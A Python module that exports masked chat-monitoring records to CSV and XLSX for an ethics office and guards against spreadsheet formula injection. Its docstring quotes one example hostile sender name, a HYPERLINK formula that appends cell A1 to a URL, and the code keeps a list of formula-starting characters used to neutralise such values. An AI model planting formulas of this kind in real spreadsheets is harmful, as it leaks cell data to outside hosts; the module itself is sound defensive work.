"""Monthly export for the ethics office: XLSX (openpyxl) and CSV, masked values only.

The column list is fixed here rather than taken from the database so a future column holding
raw content can never slip into an export by accident.

Formula injection: display names and chat titles are chosen by Telegram users, so a sender named
`=HYPERLINK("http://…"&A1)` would otherwise become a live formula when the office opens the file.
Every text value that a spreadsheet could read as a formula (leading `=` `+` `-` `@`, tab, CR, or
their full-width forms, also after leading spaces) gets a leading `'` (OWASP's advice), and XLSX
text cells are written as string cells explicitly. Numbers (ids) stay numbers.
"""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from openpyxl import Workbook
from openpyxl.styles import Font

EXPORT_COLUMNS: tuple[tuple[str, str], ...] = (
    ("id", "事件編號"),
    ("sent_at", "傳送時間"),
    ("chat_id", "群組 ID"),
    ("chat_title", "群組（單位）"),
    ("sender_id", "傳送者 ID"),
    ("sender_name", "傳送者"),
    ("kind", "訊息種類"),
    ("categories", "類別"),
    ("severity", "嚴重度"),
    ("action_taken", "處置"),
    ("status", "審查狀態"),
    ("masked_findings", "偵測項目（遮罩）"),
)


# What makes Excel, LibreOffice or Google Sheets start a formula (or DDE) in a cell.
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
ID_COLUMNS = ("id", "chat_id", "sender_id")


def neutralise(value: str) -> str:
    """`value`, prefixed with `'` when a spreadsheet could take it for a formula."""
    return "'" + value if value.lstrip(" ").startswith(FORMULA_STARTS) else value


def _cell(row: dict[str, Any], key: str) -> Any:
    value = row.get(key)
    if key == "categories" and isinstance(value, str):
        value = ", ".join(json.loads(value or "[]"))
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    return neutralise(str(value))


def to_csv(rows: list[dict[str, Any]]) -> bytes:
    """UTF-8 with BOM so Excel on Windows opens the Chinese headers correctly."""
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow([label for _, label in EXPORT_COLUMNS])
    for r in rows:
        w.writerow([_cell(r, key) for key, _ in EXPORT_COLUMNS])
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


def to_xlsx(rows: list[dict[str, Any]], month: str) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = month
    ws.append([label for _, label in EXPORT_COLUMNS])
    for cell in ws[1]:
        cell.font = Font(bold=True)
    id_cols = {n for n, (key, _) in enumerate(EXPORT_COLUMNS) if key in ID_COLUMNS}
    for r in rows:
        ws.append([_cell(r, key) for key, _ in EXPORT_COLUMNS])
        for n, cell in enumerate(ws[ws.max_row]):
            if isinstance(cell.value, str):
                cell.data_type = "s"  # never "f", whatever the text looks like
            elif n in id_cols:
                cell.number_format = "0"  # -1001234567890, not -1.00123E+12
    ws.freeze_panes = "A2"
    for col, width in zip(
        "ABCDEFGHIJKL", (8, 26, 16, 20, 14, 12, 8, 24, 10, 10, 14, 40), strict=True
    ):
        ws.column_dimensions[col].width = width
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
